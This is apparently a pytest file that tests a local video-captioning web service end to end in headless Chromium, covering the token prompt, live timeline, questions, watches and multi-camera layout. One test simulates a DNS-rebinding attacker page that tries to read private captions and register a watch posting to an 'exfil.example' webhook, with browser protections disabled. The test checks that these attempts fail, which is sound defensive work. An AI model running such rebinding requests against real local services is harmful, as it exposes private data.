"""The web page end to end in headless Chromium (Debian's /usr/bin/chromium through Playwright): it asks for the
token, loads the timeline, answers a question with links to the captions used, adds a watch whose match shows up
live, and shows a caption that is ingested while the page is open. A page from another site whose name resolves to
127.0.0.1 (DNS rebinding) reads nothing and changes nothing. The credential stays on its port: after the page has
authenticated (bearer header, tickets for the event stream, no cookie), another server on another port of 127.0.0.1
receives nothing that gives access to rlivs; the page runs under its Content-Security-Policy without a violation and
cannot be framed.

A second test shows four cameras in one 1280x800 window. Set RLIVS_DOCS_SCREENSHOT=docs/edge_app.png to save its
screenshot, the one in docs/edge_app.md.
"""

import os
import shutil
import time
from pathlib import Path

import pytest

from rlivs.edge_app.sample_video import make_sample_video
from rlivs.edge_app.service.app import OPEN_PATHS, Server
from rlivs.edge_app.service.core import EdgeService, ServiceConfig
from rlivs.runtime.memory import ClipRecord, Memory
from rlivs.edge_app.source_specs import parse_sources
from rlivs.runtime.sources.live import SourceConfig
from tests.helpers.serve_helpers import tiny_engine, wait_for

CHROMIUM = os.environ.get("RLIVS_CHROMIUM") or shutil.which("chromium") or "/usr/bin/chromium"
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
        "--disable-component-update", "--disable-sync", "--no-first-run",
        "--host-resolver-rules=MAP evil.example 127.0.0.1",  # a rebinding attacker's name, already flipped
        # the server must not rely on the browser's Private Network Access checks (older and other browsers have none)
        "--disable-features=BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights,"
        "PrivateNetworkAccessRespectPreflightResults,LocalNetworkAccessChecks"]
TOKEN = "browser-test-token-0123456789"


@pytest.fixture(scope="module")
def browser():
    if not Path(CHROMIUM).exists():
        pytest.skip(f"no Chromium at {CHROMIUM}: install Debian's (apt-get install chromium; .ci/run does) "
                    f"or set RLIVS_CHROMIUM")
    sync_api = pytest.importorskip("playwright.sync_api", reason="the browser test needs playwright (pip)")
    with sync_api.sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        yield b
        b.close()


def test_page_loads_answers_and_updates_live(browser, tmp_path, tiny_dir):
    video = make_sample_video(tmp_path / "cam.mp4", seconds=40.0)
    engine = tiny_engine()
    service = EdgeService(engine, tmp_path / "memory.db", parse_sources([f"cam={video}"]),
                          ServiceConfig(source=SourceConfig(fps=2.0, replay_speed=1.0)))  # a clip every 2 s
    server = Server(service, port=0, token=TOKEN).start()
    service.start()
    page = browser.new_page(viewport={"width": 1280, "height": 860})
    errors = []
    page.on("pageerror", lambda e: errors.append(str(e)))
    try:
        wait_for(lambda: service.workers[0].clips >= 1, 30, "the first caption")
        page.goto(server.url + "/")
        # the service has a token: the page asks for it, then loads everything with it
        page.wait_for_selector("#token-box", state="visible", timeout=10_000)
        # ... and says so where the streams, watches and matches would be, instead of "loading…" forever
        page.wait_for_function("() => document.getElementById('conn').textContent.includes('token')", timeout=5_000)
        for box in ("#timeline", "#watches", "#matches"):
            text = page.locator(box).inner_text()
            assert "waiting for the access token" in text and "loading" not in text, (box, text)
        assert page.locator("#timeline .spinner").count() == 0
        page.fill("#token-input", TOKEN)
        page.click("#token-form button")
        page.wait_for_selector('.caption-card[data-stream="cam"]', timeout=15_000)
        # thumbnails are fetched with the bearer header and shown from blob: URLs (no cookie, no token in a URL)
        page.wait_for_selector('.caption-card img[data-src^="/v1/thumbnails/cam/"][src^="blob:"]', timeout=5_000)
        page.wait_for_function("() => document.getElementById('conn').textContent === 'live'", timeout=10_000)
        seen = max(int(x) for x in page.eval_on_selector_all(".caption-card", "els => els.map(e => e.dataset.clip)"))

        # a question gets an answer, with links to the captions it used
        page.fill("#ask-input", "What moved across the scene?")
        page.click("#ask-button")
        page.wait_for_selector("#answer-sources li a.source-link", state="attached", timeout=30_000)
        assert page.locator("#answer-text").inner_text().strip() != ""
        page.click("#answer-used summary")  # the captions used are collapsed under the answer
        page.locator("#answer-sources a.source-link").first.click()
        page.wait_for_selector(".caption-card.hl", timeout=5_000)

        # a watch added on the page; a caption that matches it shows up in the matches, live
        page.fill("#watch-query", "the red box is picked up")
        page.click("#watch-button")
        page.wait_for_selector("#watches .watch", timeout=5_000)
        with Memory(tmp_path / "memory.db", model_fingerprint=engine.model_fingerprint) as mem:
            mem.open_stream("door", "planted", engine.backend.info.model_id, "planted")
            ids = engine.text.encode("someone picks up the red box")
            rec = ClipRecord("door", 0, 4.0, 6.0, "someone picks up the red box", len(ids), engine.vector(ids))
            mem.commit_clip(rec, None)
        assert service.publish_clip(rec)  # the path every ingested caption takes
        page.wait_for_selector("#matches .match >> text=someone picks up the red box", timeout=10_000)
        page.wait_for_selector('.caption-card[data-stream="door"]', timeout=5_000)

        # a caption ingested while the page is open appears without a reload (EventSource)
        page.wait_for_function(
            "n => [...document.querySelectorAll('.caption-card[data-stream=\"cam\"]')]"
            ".some(e => Number(e.dataset.clip) > n)", arg=seen, timeout=20_000)
        assert page.locator("#conn").inner_text() == "live"
        page.wait_for_selector("#health-rows tr >> text=cam", timeout=10_000)
        assert not errors, errors
    finally:
        page.close()
        server.stop()
        service.stop()


FOUR = {  # three planted streams next to a real replayed file: what each camera "saw" (hand-written captions)
    "door": ["a person in a red jacket walks to the door", "the door opens and a parcel is left outside",
             "the door closes; the hallway is empty", "a cat walks past the door"],
    "yard": ["a blue car parks in the yard", "two people unload boxes from the car", "the car drives away"],
    "dock": ["a forklift carries a pallet to the dock", "a truck backs up to the loading dock",
             "workers load the truck", "the dock is empty"],
}


def _plant(service, engine, name, captions, rng):
    """Commit captions to a new stream and publish them with a frame each, the path every ingested caption takes."""
    import numpy as np

    with Memory(service.db, model_fingerprint=engine.model_fingerprint) as mem:
        mem.open_stream(name, "planted", engine.backend.info.model_id, "planted")
        for i, text in enumerate(captions):
            ids = engine.text.encode(text)
            rec = ClipRecord(name, i, 16.0 * i, 16.0 * i + 16, text, len(ids), engine.vector(ids))
            mem.commit_clip(rec, None)
            frame = np.zeros((120, 160, 3), np.uint8)
            frame[..., rng.integers(0, 3)] = rng.integers(60, 220)
            frame[30 + 10 * i:70 + 10 * i, 20 + 25 * i:70 + 25 * i] = 255  # something that moves
            service.publish_clip(rec, middle_frame=frame)


def _until_held(page, held, key, timeout_ms=10_000):
    """Wait until the page's request `key` is held by a route (routes are served while Playwright waits)."""
    for _ in range(timeout_ms // 50):
        if key in held:
            return held[key]
        page.wait_for_timeout(50)
    raise AssertionError(f"the page did not send its {key} request")


def test_four_cameras_fit_one_window_and_a_clip_opens_enlarged(browser, tmp_path, tiny_dir):
    """Four streams in a 1280x800 window: no horizontal scroll, every camera card on screen with its latest frame and
    several captions; a finished file is shown as finished (not live, nothing "behind"), in /v1/streams too; the
    watches say "loading" (never "no watches") until they arrive; a click on a frame opens the clip enlarged; a
    question shows its progress while it waits, its answer appears piece by piece as it is generated, and stays
    compact with the watches still on screen."""
    import numpy as np

    video = make_sample_video(tmp_path / "cam.mp4", seconds=8.0)
    engine = tiny_engine()
    service = EdgeService(engine, tmp_path / "memory.db", parse_sources([f"cam={video}"]),
                          ServiceConfig(source=SourceConfig(fps=2.0, replay_speed=4.0)))
    server = Server(service, port=0).start()
    service.start()
    rng = np.random.default_rng(0)
    for name, caps in FOUR.items():
        _plant(service, engine, name, caps, rng)
    with Memory(service.db, model_fingerprint=engine.model_fingerprint) as mem:  # door: 2 clips the gate left idle
        n = len(FOUR["door"])
        for i in range(n, n + 2):
            mem.commit_idle("door", i, 16.0 * i, 16.0 * i + 16, scene_idx=n - 1)
    service.add_watch("a parcel at the door", stream="door")
    service.add_watch("a truck at the dock")
    page = browser.new_page(viewport={"width": 1280, "height": 800}, timezone_id="Asia/Tokyo", locale="en-GB")
    errors, held = [], {}
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.route("**/v1/watches", lambda route: held.setdefault("watches", route))  # answered when the test says
    try:
        wait_for(lambda: service.workers[0].state == "finished", 60, "the replayed file to finish")
        cam = next(s for s in service.streams() if s["name"] == "cam")
        assert cam["state"] == "finished" and cam["ingesting"] is False and cam["live"] is False
        assert cam["seconds_behind_live"] is None and cam["clips"] == service.workers[0].clips >= 2

        page.goto(server.url + "/")
        _until_held(page, held, "watches")
        page.wait_for_selector('.stream[data-stream="dock"] .caption-card', timeout=10_000)
        assert page.locator("#watches").inner_text().strip() == "loading watches…"  # not "no watches"
        held["watches"].continue_()
        page.unroute("**/v1/watches")
        page.wait_for_selector("#watches .watch >> nth=1", timeout=10_000)
        assert "no watches" not in page.locator("#watches").inner_text()

        # the layout: four cards inside the window, no horizontal scroll, frames and captions visible
        assert page.evaluate("() => document.documentElement.scrollWidth") <= 1280
        boxes = {n: page.locator(f'.stream[data-stream="{n}"]').bounding_box() for n in ("cam", *FOUR)}
        for name, b in boxes.items():
            assert b["x"] >= 0 and b["x"] + b["width"] <= 1280 and b["y"] >= 0 and b["y"] + b["height"] <= 800, \
                (name, b)
            assert page.locator(f'.stream[data-stream="{name}"] .latest img').is_visible()
        for name, caps in FOUR.items():  # every caption of a planted stream is on screen
            for text in caps:
                card = page.locator(f'.stream[data-stream="{name}"] .caption-card', has_text=text)
                b = card.bounding_box()
                assert b is not None and b["y"] + b["height"] <= 800, (name, text, b)

        page.wait_for_function("() => document.getElementById('sub').textContent === 'backend torch · model tiny'",
                               timeout=10_000)

        # a finished file: "finished", no "behind", and the header counts it as finished
        page.wait_for_function("() => document.querySelector('.stream[data-stream=\"cam\"] .state')"
                               ".textContent === 'finished'", timeout=10_000)
        assert "behind" not in page.locator('.stream[data-stream="cam"] .stat').inner_text()
        page.wait_for_function("() => /1 finished/.test(document.getElementById('health').textContent)",
                               timeout=10_000)
        assert "live" not in page.locator("#health-rows tr[data-stream=cam]").inner_text()
        # per camera: clips gated (door: the 2 idle clips), skipped, and the last clip's lag (the most in brackets)
        cells = lambda n: page.locator(f"#health-rows tr[data-stream={n}] td").all_inner_texts()  # noqa: E731
        w = service.workers[0]
        assert cells("cam")[3:6] == ["–", "0", page.evaluate("([a, b]) => fmt(a) + ' (' + fmt(b) + ')'",
                                                            [w.lag_s, w.max_lag_s])], cells("cam")  # gate off
        assert w.lag_s is not None and cells("cam")[5].endswith(" s)")
        assert cells("door")[3:6] == ["2", "–", "–"], cells("door")  # gated 2; not ingesting this run

        # a click on a caption's frame opens the clip enlarged, with its caption; Escape closes it
        text = FOUR["dock"][1]
        page.locator('.stream[data-stream="dock"] .caption-card', has_text=text).locator("img").click()
        page.wait_for_selector("#overlay.open", timeout=5_000)
        assert page.locator("#overlay-text").inner_text() == text
        assert page.locator("#overlay-img").get_attribute("data-src") == "/v1/thumbnails/dock/1.jpg"
        assert page.locator("#overlay-img").bounding_box()["width"] >= 480  # enlarged (thumbnails are 160 px)
        page.wait_for_function("() => document.getElementById('overlay-img').naturalWidth === 160", timeout=5_000)
        page.keyboard.press("Escape")
        page.wait_for_selector("#overlay", state="hidden", timeout=5_000)

        # a question: progress while it waits, the answer as it is generated (each decoder step slowed to 0.15 s
        # so that the pieces arrive visibly apart), then a compact answer; the watches stay on screen
        real_step = service.question_backend.step

        def slow_step(*a, **kw):
            time.sleep(0.15)
            return real_step(*a, **kw)

        service.question_backend.step = slow_step
        page.evaluate("""() => { window.lens = []; const t = document.getElementById('answer-text');
            new MutationObserver(() => window.lens.push(t.textContent.length))
              .observe(t, {childList: true, characterData: true, subtree: true}); }""")
        page.route("**/v1/ask/stream", lambda route: held.setdefault("ask", route))
        page.fill("#ask-input", "What was left at the door?")
        page.click("#ask-button")
        _until_held(page, held, "ask")
        page.wait_for_function("() => /answering… [0-9.]+ s/.test(document.getElementById('ask-progress')"
                               ".textContent) && !document.getElementById('ask-progress').hidden", timeout=5_000)
        first = page.locator("#ask-progress").inner_text()
        page.wait_for_function("t => document.getElementById('ask-progress').textContent !== t", arg=first,
                               timeout=5_000)  # the seconds count up
        held.pop("ask").continue_()
        page.wait_for_selector("#answer-used summary", state="visible", timeout=30_000)
        assert page.locator("#ask-progress").is_hidden()
        final = len(page.locator("#answer-text").text_content())
        partial = {n for n in page.evaluate("() => window.lens") if 0 < n < final}
        assert final and len(partial) >= 2, (final, page.evaluate("() => window.lens"))  # it grew piece by piece
        assert page.evaluate("() => document.getElementById('answer-used').open") is False  # collapsed
        assert page.locator("#answer-sources li").count() >= 1
        watches = page.locator("#watches").bounding_box()
        assert watches["y"] < 800, watches  # not pushed off screen by the answer

        # clip times: local wall-clock time when the API gives wall_start/wall_end, stream time otherwise
        shown = page.evaluate("""() => [
            clipTime({wall_start: '2026-03-01T09:15:03+01:00', wall_end: '2026-03-01T09:15:19+01:00', time: 'x'}),
            clipTime({wall_start: null, wall_end: null, time: '00:01:52-00:02:00'})]""")
        assert shown == ["01/03/2026 17:15:03–17:15:19", "00:01:52-00:02:00"]  # 08:15:03 UTC in Tokyo (UTC+9)
        assert page.locator('.stream[data-stream="door"] .caption-card .meta').first.inner_text().startswith(
            "00:00:48-00:01:04")  # stream time: the planted streams have no clock

        shot = os.environ.get("RLIVS_DOCS_SCREENSHOT")
        if shot:
            page.click("#answer-used summary")  # the captions the answer used, opened
            page.wait_for_timeout(1600)  # the caption highlight animation settles
            page.screenshot(path=shot, type="png", full_page=False)
        assert not errors, errors
    finally:
        page.close()
        server.stop()
        service.stop()


def test_dns_rebinding_page_reads_nothing_and_creates_no_watch(browser, tmp_path, tiny_dir):
    """The attacker's page is first served by the attacker (here: Playwright answers the navigation), then its name
    resolves to 127.0.0.1 (Chromium's resolver rule): its same-origin requests reach rlivs with Host evil.example."""
    engine = tiny_engine()
    with Memory(tmp_path / "memory.db", model_fingerprint=engine.model_fingerprint) as mem:
        mem.open_stream("cam", "secret/path/cam.mp4", engine.backend.info.model_id, "planted")
        ids = engine.text.encode("a private caption")
        mem.commit_clip(ClipRecord("cam", 0, 0.0, 2.0, "a private caption", len(ids), engine.vector(ids)), None)
    service = EdgeService(engine, tmp_path / "memory.db")
    server = Server(service, port=0).start()  # the default: loopback, no token
    page = browser.new_page()
    try:
        origin = f"http://evil.example:{server.port}"
        page.route(origin + "/", lambda route: route.fulfill(status=200, content_type="text/html",
                                                               body="<html><body>innocent</body></html>"))
        page.goto(origin + "/")
        got = page.evaluate("""async () => {
            const out = {};
            for (const p of ['/v1/captions', '/v1/streams', '/v1/thumbnails/cam/0.jpg', '/healthz']) {
                const r = await fetch(p); out[p] = [r.status, await r.text()];
            }
            const w = await fetch('/v1/watches', {method: 'POST', headers: {'Content-Type': 'application/json'},
                                  body: JSON.stringify({query: 'x', webhook: 'https://exfil.example/h'})});
            out.watch = [w.status, await w.text()];
            return out;
        }""")
        for path, (status, body) in got.items():
            assert status == 421, (path, status)
            assert "private caption" not in body and "secret/path" not in body
        assert service.watches() == []
        # the same browser at the real address is served
        assert page.goto(server.url + "/healthz").status == 200
    finally:
        page.close()
        server.stop()
        service.stop()


def test_eight_cameras_fit_one_window(browser, tmp_path, tiny_dir):
    """Eight stored streams: 4x2 cards, all inside a 1280x800 window, no horizontal scroll, each with its frame."""
    import numpy as np

    engine = tiny_engine()
    service = EdgeService(engine, tmp_path / "memory.db")
    rng = np.random.default_rng(1)
    names = [f"cam{i}" for i in range(8)]
    for name in names:
        _plant(service, engine, name, FOUR["dock"], rng)
    server = Server(service, port=0).start()
    page = browser.new_page(viewport={"width": 1280, "height": 800})
    try:
        page.goto(server.url + "/")
        page.wait_for_selector('.stream[data-stream="cam7"] .caption-card', timeout=10_000)
        assert page.evaluate("() => document.documentElement.scrollWidth") <= 1280
        for name in names:
            b = page.locator(f'.stream[data-stream="{name}"]').bounding_box()
            assert b["x"] >= 0 and b["x"] + b["width"] <= 1280 and b["y"] + b["height"] <= 800, (name, b)
            assert page.locator(f'.stream[data-stream="{name}"] .latest img').is_visible()
            assert page.locator(f'.stream[data-stream="{name}"] .caption-card').first.is_visible()
        if os.environ.get("RLIVS_EIGHT_SCREENSHOT"):
            page.screenshot(path=os.environ["RLIVS_EIGHT_SCREENSHOT"])
    finally:
        page.close()
        server.stop()
        service.stop()


def test_the_credential_stays_on_its_port_and_the_page_runs_under_its_csp(browser, tmp_path, tiny_dir):
    """The page authenticates with the token (taken from the URL fragment), loads thumbnails and opens the event
    stream under its Content-Security-Policy without a violation. Then the same browser talks to another server on
    another port of 127.0.0.1 (a page there, a fetch with credentials, an image, a frame of the rlivs page): that
    server receives nothing that gives access to rlivs (no cookie, no Authorization, no ticket, no token), and
    replaying everything it received against rlivs gets 401. The page cannot be framed (frame-ancestors 'none')."""
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    import httpx
    import numpy as np

    received = []

    class Other(BaseHTTPRequestHandler):
        def log_message(self, *args):
            pass

        def do_GET(self):
            received.append((self.path, dict(self.headers.items())))
            body = (b"<html><body>another app on this host<iframe id=f src='" + server.url.encode() +
                    b"/'></iframe></body></html>") if self.path.startswith("/page") else b"x"
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    other = ThreadingHTTPServer(("127.0.0.1", 0), Other)
    threading.Thread(target=other.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
    other_url = f"http://127.0.0.1:{other.server_address[1]}"
    engine = tiny_engine()
    service = EdgeService(engine, tmp_path / "memory.db")
    _plant(service, engine, "door", FOUR["door"], np.random.default_rng(2))  # captions with thumbnails
    server = Server(service, port=0, token=TOKEN).start()
    page = browser.new_page(viewport={"width": 1280, "height": 800})
    errors, console = [], []
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.on("console", lambda m: console.append(m.text))
    page.add_init_script("""window.violations = [];
        document.addEventListener('securitypolicyviolation',
            (e) => window.violations.push(e.violatedDirective + ' ' + e.blockedURI));""")
    try:
        page.goto(server.url + "/#token=" + TOKEN)
        page.wait_for_function("() => document.getElementById('conn').textContent === 'live'", timeout=15_000)
        assert page.evaluate("() => location.hash") == ""  # the token left the address bar
        page.wait_for_selector('.caption-card img[src^="blob:"]', timeout=10_000)
        page.wait_for_function("() => document.querySelector('.latest img').naturalWidth === 160", timeout=10_000)
        # the event stream is live: a new caption arrives on the page (EventSource opened with its ticket)
        ids = engine.text.encode("a cat sits on the mat")
        rec = ClipRecord("door", 4, 64.0, 80.0, "a cat sits on the mat", len(ids), engine.vector(ids))
        with Memory(service.db, model_fingerprint=engine.model_fingerprint) as mem:
            mem.commit_clip(rec, None)
        service.publish_clip(rec, middle_frame=np.zeros((120, 160, 3), np.uint8))
        page.wait_for_selector('.caption-card >> text=a cat sits on the mat', timeout=10_000)
        assert page.evaluate("() => window.violations") == []
        assert not [m for m in console if "Content Security Policy" in m], console
        assert page.context.cookies() == []  # rlivs set no cookie at all

        # the browser, after authenticating against rlivs, makes requests to the other server
        page.evaluate("""async (other) => {
            await fetch(other + '/fetch', {credentials: 'include', mode: 'no-cors'}).catch(() => {});
        }""", other_url)  # blocked by the page's own CSP (connect-src 'self'): it never leaves the browser
        page.goto(other_url + "/page")
        page.evaluate("""async (other) => {
            await fetch(other + '/fetch-there', {credentials: 'include'});
            const img = new Image(); img.src = other + '/img';
            await new Promise((r) => { img.onload = img.onerror = r; });
        }""", other_url)
        assert page.evaluate("() => [document.cookie, sessionStorage.getItem('rlivs_token')]") == ["", None]
        # the rlivs page cannot be framed there (the navigation waited for the frame's load): no rlivs page in it
        framed = [f for f in page.frames if f != page.main_frame]
        assert len(framed) == 1 and framed[0].query_selector("#ask-form") is None, [f.url for f in framed]

        paths = [p for p, _ in received]
        assert "/page" in paths and "/fetch-there" in paths and "/img" in paths, paths
        assert "/fetch" not in paths  # the rlivs page may connect to its own origin only
        for path, headers in received:
            low = {k.lower(): v for k, v in headers.items()}
            assert "cookie" not in low and "authorization" not in low, (path, headers)
            assert TOKEN not in path + repr(headers) and "ticket" not in path + repr(headers), (path, headers)
        # replaying whatever the other server received against rlivs gives nothing (its open paths, e.g. the
        # /favicon.ico the browser asked the other server for, hold nothing and are anyone's anyway)
        for path, headers in received:
            replay = {k: v for k, v in headers.items() if k.lower() not in ("host", "content-length")}
            for target in ("/v1/captions", "/v1/streams", "/v1/events") + (() if path in OPEN_PATHS else (path,)):
                r = httpx.get(server.url + target, headers=replay, timeout=10)
                assert r.status_code == 401, (path, target, r.status_code)
        assert not errors, errors
    finally:
        page.close()
        server.stop()
        service.stop()
        other.shutdown()
        other.server_close()
